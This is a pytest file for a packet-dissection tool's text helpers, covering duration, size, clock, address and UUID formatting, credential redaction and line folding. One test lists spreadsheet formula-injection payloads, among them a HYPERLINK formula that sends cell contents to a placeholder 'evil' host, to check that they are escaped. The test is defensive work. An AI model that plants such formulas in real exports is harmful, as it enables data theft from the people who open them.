"""Durations, sizes, counts, shares and clocks as they are shown."""

import pytest

from kdissect.text import (
    dated_clocks,
    did_you_mean,
    escape_cell,
    fold,
    format_address,
    format_clock,
    format_count,
    format_duration,
    format_ip,
    format_share,
    format_size,
    format_timestamp,
    format_uuid,
    parse_address,
    parse_uuid,
    spans_midnight,
    without_password,
)


@pytest.mark.parametrize(
    ("ns", "shown"),
    [
        (None, "-"),
        (0, "0ns"),
        (812, "812ns"),
        (999, "999ns"),
        (1000, "1.00µs"),
        (41_234, "41.2µs"),
        (99_949, "99.9µs"),
        (99_950, "100µs"),
        (999_499, "999µs"),
        (999_500, "1.00ms"),
        (1_234_567, "1.23ms"),
        (999_600_000, "1.00s"),
        (12_345_000_000, "12.3s"),
        (119_400_000_000, "119s"),
        (120_000_000_000, "2m00s"),
        (247_000_000_000, "4m07s"),
        (3_599_400_000_000, "59m59s"),
        (3_600_000_000_000, "1h00m"),
        (11_100_000_000_000, "3h05m"),
        (170_940_000_000_000, "47h29m"),
        (172_740_000_000_000, "2d00h"),
        (271_257_900_000_000_000, "3139d13h"),
    ],
)
def test_duration(ns, shown):
    assert format_duration(ns) == shown


@pytest.mark.parametrize(
    ("count", "shown"),
    [
        (0, "0 B"),
        (1023, "1023 B"),
        (1022, "1022 B"),
        (1024, "1.00 KiB"),
        (12_902, "12.6 KiB"),
        (1 << 30, "1.00 GiB"),
        (5 << 41, "10.0 TiB"),
    ],
)
def test_size(count, shown):
    assert format_size(count) == shown


def test_number():
    assert [format_count(count) for count in (0, 182_044, 9_999_999, 12_345_678, 5 * 10**9, 2 * 10**12)] == [
        "0", "182,044", "9,999,999", "12.3M", "5.00G", "2.00T",
    ]  # fmt: skip


def test_share():
    assert [format_share(part) for part in (0, 0.0001, 0.0005, 0.123, 0.9994, 0.9996, 1)] == [
        "0%", "<0.1%", "0.1%", "12.3%", "99.9%", "100%", "100%",
    ]  # fmt: skip


def test_clock():
    assert format_clock(1_772_359_200_123_999_999) == "10:00:00.123"
    assert format_clock(1_772_359_200_123_999_999, date=True) == "2026-03-01 10:00:00.123"
    assert format_clock(None) == "-"
    assert format_clock(-(2**63), date=True) == "1677-09-21 00:12:43.145"
    assert format_clock(2**63 - 1, date=True) == "2262-04-11 23:47:16.854"


def test_clocks_of_a_capture_over_midnight_have_their_date():
    moment, day = 1_772_359_200_123_999_999, 24 * 3600 * 10**9
    assert not spans_midnight(moment, moment + day // 2)
    assert spans_midnight(moment, moment + day)
    assert not spans_midnight(None, moment)
    with dated_clocks(True):
        assert format_clock(moment) == "2026-03-01 10:00:00.123"
        assert format_clock(None) == "-"
    with dated_clocks(False):
        assert format_clock(moment) == "10:00:00.123"
    assert format_clock(moment) == "10:00:00.123"


@pytest.mark.parametrize(
    ("host", "port", "text"),
    [
        ("10.1.0.3", 9092, "10.1.0.3:9092"),
        ("::1", 9092, "[::1]:9092"),
        ("broker-1", None, "broker-1"),
        ("fe80::1", None, "[fe80::1]"),
    ],
)
def test_addresses_are_read_as_they_are_written(host: str, port: int | None, text: str) -> None:
    assert format_address(host, port) == text
    assert parse_address(text) == (host, port)


def test_addresses_in_other_forms() -> None:
    assert format_address(None, None) == "-"
    assert format_address(None, 9092) == "9092"
    assert parse_address("::1") == ("::1", None)
    assert parse_address("broker-1:") == ("broker-1", None)


@pytest.mark.parametrize("text", ["[::1", "[::1]9092", "host:port", "host:0", "host:65536", "host:٣"])
def test_wrong_addresses_are_refused(text: str) -> None:
    with pytest.raises(ValueError, match="is not a"):
        parse_address(text)


@pytest.mark.parametrize(
    ("time_ns", "digits", "shown"),
    [
        (0, 9, "1970-01-01T00:00:00.000000000Z"),
        (1_777_636_800_123_456_789, 9, "2026-05-01T12:00:00.123456789Z"),
        (1_777_636_800_999_999_999, 3, "2026-05-01T12:00:00.999Z"),
        (-1, 9, "1969-12-31T23:59:59.999999999Z"),
        ((1 << 63) - 1, 9, "2262-04-11T23:47:16.854775807Z"),
    ],
)
def test_timestamp(time_ns, digits, shown):
    assert format_timestamp(time_ns, digits=digits) == shown


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("00000000000000000000ffff0a010003", "10.1.0.3"),
        ("00000000000000000000000000000001", "::1"),
        ("20010db8000000000000000000000042", "2001:db8::42"),
        ("0000000000000000000000000a010003", "::10.1.0.3"),
    ],
)
def test_ip(address, shown):
    assert format_ip(bytes.fromhex(address)) == shown


def test_uuid():
    raw = bytes.fromhex("915dfe482cd642b5a339019fcd0c1f5e")
    assert format_uuid(raw) == "kV3-SCzWQrWjOQGfzQwfXg"
    assert parse_uuid("kV3-SCzWQrWjOQGfzQwfXg") == raw


@pytest.mark.parametrize("text", ["", "AAAA", "x" * 22, "A" * 24, "kV3+SCzWQrWjOQGfzQwfXg", "é" * 22])
def test_text_that_is_not_a_uuid(text):
    with pytest.raises(ValueError, match="is not an id"):
        parse_uuid(text)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
    ],
)
def test_a_formula_becomes_text_in_a_cell(text):
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["orders", "", " =1", "a=b", "'=1", "1.5", "a\nb"])
def test_other_text_stays_in_a_cell(text):
    assert escape_cell(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("s3://key:secret@bucket/a.pcap", "s3://key:***@bucket/a.pcap"),
        ("hdfs://me:p:w@host/a and s3://k:s@b/c", "hdfs://me:***@host/a and s3://k:***@b/c"),
        ("s3://bucket/a:b@c.pcap", "s3://bucket/a:b@c.pcap"),
        ("hdfs://me@host:8020/a", "hdfs://me@host:8020/a"),
        ("/home/me:you@here", "/home/me:you@here"),
    ],
)  # fmt: skip
def test_a_uri_is_shown_without_its_password(text: str, shown: str) -> None:
    assert without_password(text) == shown


@pytest.mark.parametrize(
    ("word", "known", "hint"),
    [
        ("analyse", ["analyze", "dump"], "; did you mean 'analyze'?"),
        ("not-leader", ["NOT_LEADER_OR_FOLLOWER", "NONE"], "; did you mean 'NOT_LEADER_OR_FOLLOWER'?"),
        ("xyzzy", ["analyze", "dump"], ""),
        ("", ["analyze", "dump"], ""),
    ],
)
def test_the_nearest_name_is_suggested(word: str, known: list[str], hint: str) -> None:
    assert did_you_mean(word, known) == hint


@pytest.mark.parametrize(
    ("text", "width", "lines"),
    [
        ("one two three", 7, ["one two", "three"]),
        ("orders-app-1 at b-1", 10, ["orders-app", "-1 at b-1"]),
        ("at orders-app-1", 12, ["at", "orders-app-1"]),
        ("文字文字 文字", 6, ["文字文", "字", "文字"]),
        ("a 文字文字", 4, ["a 文", "字文", "字"]),
        ("two  blanks", 20, ["two  blanks"]),
        ("文字", 1, ["文", "字"]),
        ("", 5, [""]),
    ],
)
def test_lines_are_folded_by_columns_and_at_blanks(text: str, width: int, lines: list[str]) -> None:
    assert fold(text, width) == lines


def test_a_long_name_is_folded_in_time_that_grows_with_its_length() -> None:
    name = "文" * 100_000
    assert "".join(fold(name, 80)) == name
